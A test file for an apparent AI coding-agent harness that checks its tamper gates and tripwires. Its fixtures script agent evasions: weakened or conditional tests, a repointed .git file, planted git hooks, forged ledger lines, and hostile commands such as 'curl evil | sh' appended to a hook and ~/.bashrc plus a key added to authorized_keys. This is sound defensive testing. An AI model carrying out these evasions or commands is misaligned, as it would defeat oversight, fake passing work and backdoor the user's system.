import { execFileSync, spawnSync } from "node:child_process";
import { chmodSync, existsSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { worktreePath } from "../../src/loop/context.js";
import { runCli } from "../helpers/cli.js";
import { DOUBLE_JS, gateResults, useLoopRepos } from "../helpers/loop-repo.js";
import { useTemporaryHome } from "../helpers/temporary-home.js";

/** The factory's git is the factory's: nothing in the repository's git configuration runs inside its own git calls. */
const setUp = useLoopRepos(afterEach);
const honest = { write: { "src/double.js": DOUBLE_JS } };
const SKIP = ["test", "skip"].join("."); // spelled apart so checks for committed skips do not trip on this fixture
/** The tripwire is what stops these without the sandbox; with it, they cannot write (test/integration/run-sandbox.test.ts). */
const NO_SANDBOX = '[sandbox]\nkind = "none"';

describe("the factory's git calls", () => {
  it("run no hook of the repository: an honest packet merges and the hooks never fire", async () => {
    const target = setUp({ script: { P01: { implementer: [honest] } } });
    const marker = `${target.dir}/.hook-ran`; // inside the repository, so the test leaves nothing behind
    for (const hook of ["pre-commit", "post-commit", "post-merge", "post-checkout", "reference-transaction"]) {
      writeFileSync(`${target.dir}/.git/hooks/${hook}`, `#!/bin/sh\necho ${hook} >> ${marker}\n`);
      chmodSync(`${target.dir}/.git/hooks/${hook}`, 0o755);
    }
    const { code, out } = await target.run();
    expect(out).toContain("P01#1 → merged");
    expect(code).toBe(0);
    expect(existsSync(marker)).toBe(false);
  });

  it("read diffs without the repository's external diff or textconv, so the tamper gate still sees a skip marker", async () => {
    const target = setUp({
      allowed: ["src/double.js", "test/calc.test.js"],
      script: { P01: { implementer: [{ write: { ...honest.write }, append: { "test/calc.test.js": `${SKIP}("later", () => {});\n` } }] } },
    });
    target.git("config", "diff.external", "true"); // an external diff that prints nothing
    writeFileSync(`${target.dir}/.git/info/attributes`, "*.js diff=hide\n");
    target.git("config", "diff.hide.textconv", "sh -c 'true'");
    const { code } = await target.run();
    expect(code).toBe(1);
    expect(gateResults(await target.events("P01"), 1)).toMatchObject({ tamper: "fail" });
    expect(target.subjects()[0]).toBe("queue");
  });

  it("read test diffs as text: a NUL byte that makes git call a test file binary hides no weakened test", async () => {
    // The assertion goes, and a NUL in a comment turns git's diff of the file into "Binary files differ".
    const weakened = 'import test from "node:test";\n// \u0000\ntest("adds", () => {});\n';
    const target = setUp({ allowed: ["src/double.js", "test/calc.test.js"], script: { P01: { implementer: [{ write: { ...honest.write, "test/calc.test.js": weakened } }] } } });
    const { code, out } = await target.run();
    expect(out).toMatch(/gate tamper: fail — test\/calc\.test\.js:\d+: ("adds" has fewer assertions that always run|lowers the number of assertions)/);
    expect(code).toBe(1);
    expect(target.subjects()[0]).toBe("queue");
    // The reviewer and the person read the change as text too.
    expect(readFileSync(join(target.dir, ".factory/runs/P01/attempt-1/diff.patch"), "utf8")).toContain("-  assert.equal(add(2, 2), 4);");
  });

  it("read JavaScript tests with TypeScript's parser: an assertion made conditional beside wrong code is tamper", async () => {
    const wrong = "export function add(a, b) {\n  return a * b + 1;\n}\n";
    const conditional =
      'import assert from "node:assert/strict";\nimport test from "node:test";\nimport { add } from "../src/calc.js";\n\ntest("adds", () => {\n  if (add(2, 2) !== 5) assert.equal(add(2, 2), 4);\n});\n';
    const target = setUp({
      allowed: ["src/double.js", "src/calc.js", "test/calc.test.js"],
      forbidden: [],
      script: { P01: { implementer: [{ write: { ...honest.write, "src/calc.js": wrong, "test/calc.test.js": conditional } }] } },
    });
    const { code, out } = await target.run();
    expect(out).toMatch(/gate tamper: fail — test\/calc\.test\.js:\d+: "adds" has fewer assertions that always run \(1 before, 0 now\): made conditional/);
    expect(code).toBe(1);
    expect(target.read("src/calc.js")).toContain("return a + b");
  });

  it("honest twin: a binary asset merges, shown as binary in the diff people and the reviewer read", async () => {
    const png = "\u0089PNG\r\n\u001a\n\u0000\u0000\u0000\rIHDR";
    const target = setUp({ allowed: ["src/double.js", "assets/logo.png"], script: { P01: { implementer: [{ write: { ...honest.write, "assets/logo.png": png } }] } } });
    const { code, out } = await target.run();
    expect(out).toContain("P01#1 → merged");
    expect(code).toBe(0);
    const patch = readFileSync(join(target.dir, ".factory/runs/P01/attempt-1/diff.patch"), "utf8");
    expect(patch).toContain("Binary files /dev/null and b/assets/logo.png differ");
    expect(patch).toContain("+export function double(n) {");
  });

  it("commit the worktree's exact bytes: a clean filter in the configuration cannot change what lands", async () => {
    const target = setUp({ script: { P01: { implementer: [honest] } } });
    writeFileSync(`${target.dir}/.git/info/attributes`, "src/*.js filter=rewrite\n");
    target.git("config", "filter.rewrite.clean", "sed s/2/3/"); // would commit n * 3
    const { code, out } = await target.run();
    expect(out).toContain("P01#1 → merged");
    expect(code).toBe(0);
    expect(target.git("cat-file", "blob", "main:src/double.js")).toBe(DOUBLE_JS);
  });
});

describe("the worktree's .git file", () => {
  it("rewritten by the agent to point at a git directory it made, is never followed: the packet blocks as tampering", async () => {
    const target = setUp({ script: {} });
    // A git directory of the agent's own inside its worktree, and the worktree's .git pointed at it.
    const repoint = 'git init -q --bare "$PWD/.fake-git" && printf "gitdir: %s\\n" "$PWD/.fake-git" > .git';
    target.setScript({ P01: { implementer: [{ ...honest, run: repoint }] } });
    const { code, out } = await target.run();
    expect(out).toMatch(/P01#1 → blocked: something in the worktree \(the agent, or code it wrote\) rewrote its \.git file: .*its \.git file points inside the worktree/);
    expect(out).not.toContain("internal error");
    expect(code).toBe(1);
    const fake = join(worktreePath(target.dir, "P01"), ".fake-git");
    // Nothing the factory did went into the agent's git directory: it has no commit at all.
    if (existsSync(fake)) expect(execFileSync("git", ["--git-dir", fake, "rev-list", "--all"], { encoding: "utf8" })).toBe("");
    expect(target.read("src/calc.js")).toContain("return a + b");
    // A person resets it: the tampered worktree is repaired from the repository's side and removed, and the packet merges.
    expect(runCli(["reset", "P01", "--yes"], target.dir).code).toBe(0);
    expect(existsSync(worktreePath(target.dir, "P01"))).toBe(false);
    target.setScript({ P01: { implementer: [honest] } });
    expect((await target.run()).out).toMatch(/P01#\d → merged/);
  });

  it("honest twin: an agent that uses git in its worktree (status, diff, add) merges", async () => {
    const target = setUp({ script: { P01: { implementer: [{ ...honest, run: "git status --short >/dev/null && git diff >/dev/null && git add -A 2>/dev/null; true" }] } } });
    const { code, out } = await target.run();
    expect(out).toContain("P01#1 → merged");
    expect(code).toBe(0);
  });
});

describe("the factory's commits", () => {
  it("honour the user's signing setup: the landing commit is signed, the task branch's working commits are not", async () => {
    const target = setUp({ script: { P01: { implementer: [honest] } } });
    const key = `${target.dir}/.git/test-signing-key`; // inside the repository, so the test leaves nothing behind
    execFileSync("ssh-keygen", ["-q", "-t", "ed25519", "-N", "", "-f", key]);
    target.git("config", "gpg.format", "ssh");
    target.git("config", "user.signingkey", key);
    target.git("config", "commit.gpgsign", "true");
    const { code, out } = await target.run();
    expect(out).toContain("P01#1 → merged");
    expect(code).toBe(0);
    expect(target.git("cat-file", "commit", "main")).toContain("-----BEGIN SSH SIGNATURE-----");
    const planted = (await target.events("P01")).find((event) => event.kind === "planted");
    expect(target.git("cat-file", "commit", planted?.kind === "planted" ? planted.commit : "")).not.toContain("gpgsig");
  });
});

describe("a signing setup that cannot sign", () => {
  it("is refused by the preflight, in git's words, before anything is claimed or paid; signing is never turned off", async () => {
    const target = setUp({ script: { P01: { implementer: [honest] } } });
    target.git("config", "gpg.format", "ssh");
    target.git("config", "user.signingkey", `${target.dir}/.git/no-such-key`);
    target.git("config", "commit.gpgsign", "true");
    const { code, out } = await target.run();
    expect(code).toBe(2);
    expect(out).toMatch(/commit\.gpgsign is set, but git cannot sign a commit here \(.*no-such-key.*\): make the signing key usable/);
    expect(out).not.toContain("internal error");
    expect(await target.events("P01")).toEqual([]);
    expect(target.git("config", "--get", "commit.gpgsign").trim()).toBe("true");
  });
});

describe("the tripwire on the repository's git state, without the sandbox", () => {
  it("an agent that configures the shared .git (an external diff, a hook) is stopped, the packet blocked and the run halted", async () => {
    const reach = "git config diff.external true && printf '#!/bin/sh\\nexit 0\\n' > \"$(git rev-parse --git-common-dir)/hooks/post-merge\"";
    const target = setUp({ config: NO_SANDBOX, script: { P01: { implementer: [{ ...honest, run: reach }] } } });
    const { code, out } = await target.run();
    expect(code).toBe(1);
    expect(out).toMatch(
      /P01#1 → blocked: the implementer reached outside its worktree: \.git\/config changed, \.git\/hooks\/post-merge appeared \(undone: removed; kept in \S+undone-hooks\/post-merge\)/,
    );
    expect(out).toContain("run halted");
    expect(target.subjects()[0]).toBe("queue");
    // The planted hook would run at the user's next merge: it is gone from the hooks, kept in the attempt's run directory.
    expect(existsSync(join(target.dir, ".git/hooks/post-merge"))).toBe(false);
    expect(existsSync(join(target.dir, ".factory/runs/P01/attempt-1/undone-hooks/post-merge"))).toBe(true);
  });

  it("a hook the agent changed gets its old content back; a hook the user keeps stays", async () => {
    const target = setUp({ config: NO_SANDBOX, script: {} });
    const hook = join(target.dir, ".git/hooks/pre-commit");
    writeFileSync(hook, "#!/bin/sh\n# the user's own check\nexit 0\n");
    chmodSync(hook, 0o755);
    const user = join(target.dir, ".git/hooks/pre-push");
    writeFileSync(user, "#!/bin/sh\nexit 0\n");
    target.setScript({ P01: { implementer: [{ ...honest, run: `echo 'curl evil | sh' >> ${hook}` }] } });
    const { code, out } = await target.run();
    expect(code).toBe(1);
    expect(out).toMatch(/\.git\/hooks\/pre-commit changed \(undone: restored/);
    expect(readFileSync(hook, "utf8")).toBe("#!/bin/sh\n# the user's own check\nexit 0\n");
    expect(readFileSync(user, "utf8")).toBe("#!/bin/sh\nexit 0\n");
  });

  it("code run by the gates that writes git configuration is stopped too", async () => {
    const sneakyTest = `import { execSync } from "node:child_process";\nimport test from "node:test";\ntest("configures git", () => { execSync("git config core.hooksPath /tmp/elsewhere"); });\n`;
    const target = setUp({
      config: NO_SANDBOX,
      allowed: ["src/double.js", "test/sneaky.test.js"],
      script: { P01: { implementer: [{ write: { ...honest.write, "test/sneaky.test.js": sneakyTest } }] } },
    });
    const { code, out } = await target.run();
    expect(code).toBe(1);
    expect(out).toMatch(/P01#1 → blocked: the code run by the gates reached outside its worktree: \.git\/config changed/);
  });
});

describe("the tripwire outside the worktree, without the sandbox", () => {
  // The shim goes into a HOME of this test's own: the real one is watched by every run of the suite's other
  // test files, which run at the same time and would each see it appear.
  const home = useTemporaryHome(beforeEach, afterEach, "tripwire");
  const shim = join(home, ".local", "bin", "factory-tripwire");
  // Each reach at the repository ("ROOT", its path), run from the worktree, and how the tripwire names it.
  const reaches: [string, string, RegExp][] = [
    ["a shim on PATH in HOME", `mkdir -p "$(dirname ${shim})" && touch ${shim}`, /~\/\.local\/bin\/factory-tripwire appeared/],
    ["a commit straight to main", `git -C ROOT commit -q --allow-empty -m sneaky`, /branch main changed/],
    ["a new tag", "git tag sneaky", /ref refs\/tags\/sneaky appeared/],
    ["a line appended to the shell's start-up file", `echo 'curl evil | sh' >> ${home}/.bashrc`, /~\/\.bashrc appeared/],
    ["a key added to SSH's authorized keys", `mkdir -p ${home}/.ssh && echo 'ssh-ed25519 AAAA evil' >> ${home}/.ssh/authorized_keys`, /~\/\.ssh\/authorized_keys appeared/],
    ["an edit to the user's checkout", "echo '// x' >> ROOT/src/calc.js", /a change to src\/calc\.js in your checkout appeared/],
    ["the user's checkout switched to another branch", "git -C ROOT checkout -q -b sneaky", /your checkout's HEAD changed/],
    [
      "an edit hidden with skip-worktree",
      "git -C ROOT update-index --skip-worktree src/calc.js && echo '// x' >> ROOT/src/calc.js",
      /a flag hiding changes to src\/calc\.js in your checkout appeared/,
    ],
  ];
  for (const [what, reach, named] of reaches) {
    it(`${what}: the attempt fails naming it, the packet is blocked and the run halts`, async () => {
      const target = setUp({ config: NO_SANDBOX, script: {} });
      target.setScript({ P01: { implementer: [{ ...honest, run: reach.replaceAll("ROOT", target.dir) }] } });
      const { code, out } = await target.run();
      expect(out).toMatch(/P01#1 → blocked: the implementer reached outside its worktree: /);
      expect(out).toMatch(named);
      expect(out).toContain("run halted");
      expect(code).toBe(1);
    });
  }
});

describe("limits", () => {
  it("a result file that is a FIFO is not read (the factory would hang), and one over max_result_size is not read either", async () => {
    const fifo = { ...honest, result: null, run: "mkfifo .factory/result.json" };
    const huge = { ...honest, result: null, run: "head -c 2000000 /dev/zero | tr '\\0' ' ' > .factory/result.json" };
    const target = setUp({ script: { P01: { implementer: [fifo, huge] } } });
    const { code, out } = await target.run();
    expect(code).toBe(1);
    expect(out).toContain("not a regular file");
    expect(out).toMatch(/is 1\.9 MB, over \[limits\] max_result_size \(1 MB\)/);
  }, 60_000);

  it("a committed symbolic link that leaves the repository fails the scope gate", async () => {
    const target = setUp({ allowed: ["src/double.js", "src/etc"], script: { P01: { implementer: [{ ...honest, run: "ln -s /etc src/etc" }] } } });
    const { code, out } = await target.run();
    expect(code).toBe(1);
    expect(out).toMatch(/gate scope: fail — src\/etc: is a symbolic link that leaves the repository \(→ \/etc\)/);
  });

  it("a changed file over max_file_size fails the scope gate before it is committed: it never enters the repository's objects", async () => {
    const target = setUp({
      config: `max_file_size = "100KB"`,
      allowed: ["src/double.js", "src/blob.bin"],
      script: { P01: { implementer: [{ ...honest, run: "yes blob | head -c 200000 > src/blob.bin" }] } },
    });
    const { code, out } = await target.run();
    expect(code).toBe(1);
    expect(out).toMatch(/gate scope failed: src\/blob\.bin: is 195\.3 KB, over \[limits\] max_file_size \(100 KB\); not committed/);
    const blob = execFileSync("git", ["hash-object", "--stdin"], { input: "blob\n".repeat(40_000), encoding: "utf8" }).trim();
    expect(spawnSync("git", ["-C", target.dir, "cat-file", "-e", blob]).status).not.toBe(0); // no such object
  });

  it("changed files each under max_file_size but over max_attempt_size together fail the scope gate before they are committed; under it they merge", async () => {
    // Thirty files of 9 MB each pass a 10 MB max_file_size; here, the same shape in small: three of 60 KB, each under 100 KB.
    const write = "for n in 1 2 3; do yes blob$n | head -c 60000 > src/blob$n.bin; done";
    const allowed = ["src/double.js", "src/blob*.bin"];
    const target = setUp({ config: `max_file_size = "100KB"\nmax_attempt_size = "150KB"`, allowed, script: { P01: { implementer: [{ ...honest, run: write }] } } });
    const { code, out } = await target.run();
    expect(code).toBe(1);
    expect(out).toMatch(
      /gate scope failed: src\/blob\d\.bin: the attempt's \d changed files add up to 17\d KB, over \[limits\] max_attempt_size \(150 KB\): the largest are src\/blob\d\.bin \(58\.6 KB\)/,
    );
    const blob = execFileSync("git", ["hash-object", "--stdin"], { input: "blob1\n".repeat(10_000), encoding: "utf8" }).trim();
    expect(spawnSync("git", ["-C", target.dir, "cat-file", "-e", blob]).status).not.toBe(0); // no such object
    const roomy = setUp({ config: `max_file_size = "100KB"\nmax_attempt_size = "1MB"`, allowed, script: { P01: { implementer: [{ ...honest, run: write }] } } });
    const landed = await roomy.run();
    expect(landed.out).toContain("P01#1 → merged");
  });
});

describe("the config", () => {
  it("is read from git at the target tip: an uncommitted edit (a notify command, a gate removed) is named and not used", async () => {
    const target = setUp({ script: { P01: { implementer: [{ write: { "src/double.js": "export const double = (n) => n;\n" } }] } } });
    const marker = `${target.dir}/.notified`;
    const weakened = `${target.read(".factory/config.toml").replace(/\[\[surfaces\.app\.gates\]\]\s*name = "test"[\s\S]*?tests = true\n/, "")}\n[notify]\ncommand = "touch ${marker}"\n`;
    target.write(".factory/config.toml", weakened);
    expect(weakened).not.toContain('name = "test"');
    const { code, out } = await target.run();
    expect(out).toContain("warning: .factory/config.toml has uncommitted edits; the version committed on main is used");
    expect(out).toMatch(/gate test: fail/); // the committed test gate still ran
    expect(code).toBe(1);
    expect(existsSync(marker)).toBe(false);
  });
});

describe("the ledger's hash chain, without the sandbox", () => {
  it("a line an agent appends (a forged merge-blocked) halts the run, and status and the next run name the line", async () => {
    const forged = JSON.stringify({ v: 1, ts: new Date().toISOString(), kind: "merge-blocked", packet: "P01", attempt: 1, reason: "x", commit: "HEAD", fork: "HEAD" });
    const target = setUp({ config: NO_SANDBOX, script: {} });
    target.setScript({ P01: { implementer: [{ ...honest, run: `echo '${forged}' >> ${target.dir}/.factory/state/ledger.jsonl` }] } });
    const first = await target.run();
    expect(first.out).toMatch(/run halted: \.factory\/state\/ledger\.jsonl:\d+: the ledger's hash chain breaks here: it carries no link/);
    expect(first.code).toBe(1);
    const status = runCli(["status"], target.dir);
    expect(status.stderr).toMatch(/warning: \.factory\/state\/ledger\.jsonl:\d+: the ledger's hash chain breaks here/);
    const again = await target.run();
    expect(again.out).toMatch(/factory run refused: \.factory\/state\/ledger\.jsonl:\d+: the ledger's hash chain breaks here/);
    expect(again.code).toBe(1);
  });
});

describe("an agent killed by a signal", () => {
  it("is the machine's fault, not the work's: the attempt is not counted, and two in a row halt the run", async () => {
    const target = setUp({
      config: NO_SANDBOX,
      script: {},
      agents: `[agents.doomed]
kind = "command"
run = "kill -KILL $$"

[tiers]
basic = { agent = "doomed", model = "m" }
standard = { agent = "doomed", model = "m" }
advanced = { agent = "doomed", model = "m" }`,
    });
    const { code, out } = await target.run();
    expect(code).toBe(1);
    expect(out).toContain("the implementer was killed by SIGKILL from outside the factory");
    expect(out).toContain("two environment errors in a row");
    expect((await target.record("P01"))?.attemptsUsed).toBe(0);
  }, 60_000);
});
